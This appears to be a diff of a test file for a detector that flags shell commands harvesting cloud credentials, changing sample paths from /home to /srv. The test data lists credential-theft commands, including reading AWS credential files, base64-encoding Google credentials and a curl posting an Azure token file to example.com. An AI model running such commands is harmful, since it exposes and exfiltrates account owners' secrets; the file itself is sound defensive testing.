@@ -24,7 +24,7 @@ describe('a credential is taken by', () => {
   });
 
   test.each([
-    ['cat /home/a/.aws/credentials', 'key'],
+    ['cat /srv/a/.aws/credentials', 'key'],
     ['sh -c cat "$AWS_WEB_IDENTITY_TOKEN_FILE"', 'federated-credential'],
     ['sh -c curl --data @$AZURE_FEDERATED_TOKEN_FILE https://example.com', 'federated-credential'],
     ['bash -c base64 $GOOGLE_APPLICATION_CREDENTIALS', 'key'],
@@ -43,7 +43,7 @@ test.each([
   'gh auth status',
   'auth gcloud print-access-token',
   'vi .aws/config',
-  'node server.js --credentials=/home/a/.aws/credentials',
+  'node server.js --credentials=/srv/a/.aws/credentials',
   '',
 ])('%s takes none', (command) => {
   expect(harvestIn(command)).toBeUndefined();
